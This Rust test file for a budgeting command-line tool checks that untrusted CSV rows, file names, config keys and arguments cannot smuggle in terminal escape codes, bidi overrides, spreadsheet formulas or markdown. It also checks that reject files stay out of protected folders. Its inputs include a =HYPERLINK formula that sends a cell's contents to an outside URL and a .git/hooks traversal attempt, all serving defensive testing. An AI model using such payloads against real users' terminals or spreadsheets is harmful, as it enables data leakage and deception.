//! Text from strangers: what files, names and command lines hold steers no terminal, runs in no spreadsheet, and is no
//! markup; and it comes back as it was.

use std::fs;
use std::path::Path;

use crate::support::book::book_of as book;
use crate::support::document;

/// The program's exit code, and what it printed: standard output, then standard error.
fn budget(folder: &Path, arguments: &[&str]) -> (i32, String, String) {
    let mut command = document::budget(folder);
    let output = command.args(arguments).output().unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (output.status.code().unwrap_or(-1), text(&output.stdout), text(&output.stderr))
}

const BOOK: &str = r#"
[dimensions]
department = ["Desk"]

[[category]]
path = "rent"

[plan]
id = "2026"
first_month = "2026-01"

[[line]]
category = "rent\u202etxt"
monthly = 100
basis = "see \u2067 note \u009b31m"

[[line]]
category = "zero\u200bwidth"
monthly = 100
"#;

/// Names of columns and hidden letters of the ledger, too.
#[test]
fn tables_of_the_ledger_steer_no_terminal() {
    for (axis, code) in [("pro\\u001b]0;own\\u0007ject", 2), ("pro\\u202eject", 0), ("pro\\u200bject", 0)] {
        let folder = book(&format!(
            "[dimensions]\n\"{axis}\" = [\"p\\u200b1\"]\n[plan]\nid = \"2026\"\nfirst_month = \"2026-01\"\n[[line]]\ncategory = \"rent\"\nmonthly = 1\n"
        ));
        let here = folder.path();
        let rows = "date,category,amount,description\n2026-01-05,rent,1.00,hid\u{200b}den \u{202e}x\n";
        fs::write(here.join("a.csv"), rows).unwrap();
        assert_eq!(budget(here, &["import", "a.csv"]).0, code);
        for command in
            [&["import", "show", "last"][..], &["import", "list"], &["explain", "rent", "--month", "2026-01"]]
        {
            let command = [command, &["--format", "csv"]].concat();
            let (_, out, err) = budget(here, &command);
            assert_eq!(steers(&(out.clone() + &err)), None, "{command:?} printed\n{out}{err}");
        }
    }
}

fn steers(text: &str) -> Option<char> {
    let strange = |c: &char| {
        (c.is_control() && !matches!(c, '\n' | '\r'))
            || matches!(c, '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    text.chars().find(strange)
}

#[test]
fn nothing_steers_the_terminal() {
    let folder = book(BOOK);
    let here = folder.path();
    let file = "bad\u{1b}]0;owned\u{7}.csv";
    let rows = "date,account,department,amount,description\n\
                2026-01-05,\u{1b}]0;owned\u{7}rent\u{202e},Desk,5.00,x\n\
                2026-01-06,rent,De\u{200b}sk\u{9b}2J,x5,\u{1b}[2J\n";
    fs::write(here.join(file), rows).unwrap();
    let escape = "\u{1b}[31mx\u{202e}";
    let ask = ["--month", "2026-01", "--as-of", "2026-01-31"];
    let mut commands: Vec<Vec<&str>> = vec![
        vec!["import", file],
        vec!["import", file, "--dry-run", "--skip-bad"],
        vec!["import", file, "--skip-bad", "-v"],
        vec!["import", "list"],
        vec!["import", escape],
        vec!["plan", "check"],
        vec!["plan", "export"],
        vec!["plan", "show"],
        vec![escape],
        vec!["-C", escape, "variance"],
        vec!["--lang", escape, "variance"],
        vec!["variance", "--\u{1b}[31m"],
        vec!["variance", "--sort", escape],
        vec!["variance", "--depth", escape],
        vec!["variance", "--plan", escape],
        vec!["variance", "-o", "\u{1b}/\u{202e}"],
    ];
    for format in ["table", "csv", "json", "markdown"] {
        for report in [&["variance"][..], &["explain", "rent\u{202e}txt"], &["explain", "zero\u{200b}width"]] {
            commands.push([report, &ask[..], &["--format", format]].concat());
        }
    }
    for command in [["variance", "--category", escape], ["explain", escape, "-v"], ["variance", "--by", escape]] {
        commands.push(command.iter().chain(&ask).copied().collect());
    }
    for mut command in commands {
        for lang in ["en", "zh-CN"] {
            command.extend(["--lang", lang]);
            let (_, out, err) = budget(here, &command);
            assert_eq!(steers(&(out.clone() + &err)), None, "{command:?} printed\n{out}{err}");
            assert!(!out.is_empty() || !err.is_empty(), "{command:?} said nothing");
            command.truncate(command.len() - 2);
        }
    }
}

const FORMULAS: &str = r#"
[plan]
id = "2026"
first_month = "2026-01"

[[line]]
category = "-discounts"
monthly = 100
basis = '=HYPERLINK("http://x/?"&A1,"see")'

[[line]]
category = "+allowance:@night"
monthly = 50
owner = "@SUM(1)"

[[line]]
category = "'=quoted"
monthly = 25
contra = true

[[line]]
category = "＝全角"
monthly = -10
contra = true
effect = "－折扣"
"#;

/// The cells that a spreadsheet would run.
fn running(csv: &str) -> Vec<String> {
    let text = csv.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let cells = reader.records().flat_map(|record| record.unwrap().iter().map(String::from).collect::<Vec<_>>());
    let number = |cell: &str| cell.trim_start_matches(['-', '+']).bytes().all(|b| b.is_ascii_digit() || b == b'.');
    cells
        .filter(|cell| cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r']) && !number(cell))
        .collect()
}

#[test]
fn a_plan_comes_back_from_its_sheet_and_from_its_table() {
    let folder = book(FORMULAS);
    let here = folder.path();
    assert_eq!(budget(here, &["plan", "export", "-o", "out.csv"]).0, 0);
    let sheet = fs::read_to_string(here.join("out.csv")).unwrap();
    assert_eq!(running(&sheet), [""; 0]);
    // Read as a sheet, kept as a lines table, and written again.
    let other = book("[plan]\nid = \"2026\"\nfirst_month = \"2026-01\"\n");
    fs::copy(here.join("out.csv"), other.path().join("out.csv")).unwrap();
    let (code, _, err) = budget(other.path(), &["plan", "import", "out.csv", "--into", "2026"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(running(&fs::read_to_string(other.path().join("plans/2026.csv")).unwrap()), [""; 0]);
    assert_eq!(budget(other.path(), &["plan", "export", "-o", "again.csv"]).0, 0);
    assert_eq!(fs::read_to_string(other.path().join("again.csv")).unwrap(), sheet);
}

#[test]
fn rejected_rows_are_guarded_and_come_back() {
    let folder = book("[[category]]\npath = \"rent\"\n");
    let here = folder.path();
    let rows = "date,category,amount,description\n2026-01-05,rent,5.00,fine\n2026-01-06,rent,x,=1+1\n\
                2026-01-07,rent,y,'=2\n2026-01-08,rent,z,''=3\n2026-01-09,rent,v,' =4\n2026-01-09,rent,w,\"'\t@5\"\n";
    fs::write(here.join("a.csv"), rows).unwrap();
    let mended = |text: &str| {
        let amounts = [(",x,", ",6.00,"), (",y,", ",-7.00,"), (",z,", ",8.00,"), (",v,", ",9.00,"), (",w,", ",10.00,")];
        amounts.iter().fold(text.to_string(), |text, (bad, good)| text.replace(bad, good))
    };
    let (code, _, err) = budget(here, &["import", "a.csv", "--skip-bad"]);
    assert_eq!(code, 0, "{err}");
    let text = fs::read_to_string(here.join("rejects/a.rejects.csv")).unwrap();
    assert_eq!(running(&text), [""; 0]);
    fs::write(here.join("b.csv"), mended(&text)).unwrap();
    let (code, _, err) = budget(here, &["import", "b.csv"]);
    assert_eq!(code, 0, "{err}");
    let (_, out, _) =
        budget(here, &["explain", "rent", "--month", "2026-01", "--as-of", "2026-01-31", "--format", "json"]);
    // An apostrophe that guards a formula is no part of its text, whoever wrote it.
    let texts = ["=1+1", "=2", "'=3"].map(|text| format!("\"{text}\""));
    assert!(texts.iter().all(|text| out.contains(text)), "{out}");
    // What the file itself says, once it is mended, is the same: nothing counts twice.
    fs::write(here.join("a.csv"), mended(rows)).unwrap();
    let (code, _, err) = budget(here, &["import", "a.csv"]);
    assert!(code == 0 && err.contains("nothing new"), "{err}");
}

/// Rows that were set aside are somebody's work: no file of them takes another's place.
#[test]
fn rejects_never_take_each_other_s_place() {
    let folder = book("[[category]]\npath = \"rent\"\n");
    let here = folder.path();
    let month = |month: u32, bad: &str| {
        format!("date,category,amount\n2026-0{month}-05,rent,1.00\n2026-0{month}-06,rent,{bad}\n")
    };
    for (name, text) in [("p/b.csv", month(1, "badP")), ("q/b.csv", month(2, "badQ")), ("b.csv", month(3, "badR"))] {
        fs::create_dir_all(here.join(name).parent().unwrap()).unwrap();
        fs::write(here.join(name), text).unwrap();
    }
    let (code, _, err) = budget(here, &["import", "p/b.csv", "q/b.csv", "--skip-bad"]);
    assert!(code == 0 && err.contains("b.rejects.csv") && err.contains("b.2.rejects.csv"), "{err}");
    fs::write(here.join("rejects/b.rejects.csv"), "half mended").unwrap();
    let (code, _, err) = budget(here, &["import", "b.csv", "--skip-bad"]);
    assert_eq!(code, 0, "{err}");
    let held = |name: &str| fs::read_to_string(here.join("rejects").join(name)).unwrap();
    assert_eq!(held("b.rejects.csv"), "half mended");
    assert!(held("b.2.rejects.csv").contains("badQ") && held("b.3.rejects.csv").contains("badR"));
    // Told again, they are the same.
    assert_eq!(budget(here, &["import", "b.csv", "--skip-bad"]).0, 0);
    assert_eq!(fs::read_dir(here.join("rejects")).unwrap().count(), 3);
}

#[test]
fn rejects_do_not_go_where_the_book_lives() {
    let folder = book("[[category]]\npath = \"rent\"\n");
    let here = folder.path();
    fs::write(here.join("a.csv"), "date,category,amount\n2026-01-05,rent,1.00\n2026-01-06,rent,x\n").unwrap();
    for place in
        ["ledger/actual", "plans", "benchmarks", ".budget", "versions", "nosuch/../ledger/source", ".git/hooks"]
    {
        let (code, _, err) = budget(here, &["import", "a.csv", "--skip-bad", "--rejects", place]);
        assert!(code == 2 && err.contains("the book"), "{place}: {err}");
    }
    assert!(!here.join("ledger/actual").exists() || fs::read_dir(here.join("ledger/actual")).unwrap().count() == 0);
    assert_eq!(budget(here, &["import", "a.csv", "--skip-bad", "--rejects", "."]).0, 0);
}

/// The name of an axis stands in the header of a table.
#[test]
fn a_header_steers_no_terminal() {
    let folder = book(
        "[dimensions]\n\"proj\\u001B]0;x\\u0007\" = [\"a\"]\n[plan]\nid = \"2026\"\nfirst_month = \"2026-01\"\n[[line]]\ncategory = \"rent\"\nmonthly = 1\n",
    );
    let ask = ["variance", "--month", "2026-01", "--as-of", "2026-01-31", "--format", "csv"];
    let (_, out, err) = budget(folder.path(), &ask);
    assert!(!out.contains('\u{1b}') && !err.contains('\u{1b}'), "{out:?}{err:?}");
}

#[test]
fn markup_is_shown_and_not_rendered() {
    let folder = book(
        "[plan]\nid = \"2026\"\nname = \"# A | B <b>x</b> `y` $z$\"\nfirst_month = \"2026-01\"\n[[line]]\ncategory = \"电|*b*\"\nmonthly = 1\n",
    );
    let ask = ["variance", "--month", "2026-01", "--as-of", "2026-01-31", "--format", "markdown", "-v"];
    let (_, out, err) = budget(folder.path(), &ask);
    assert!(!out.contains("<b>") && out.contains("&lt;b>x&lt;/b>") && out.contains("\\`y\\` \\$z\\$"), "{out}{err}");
    assert!(out.contains("电\\|\\*b\\*"), "{out}");
}
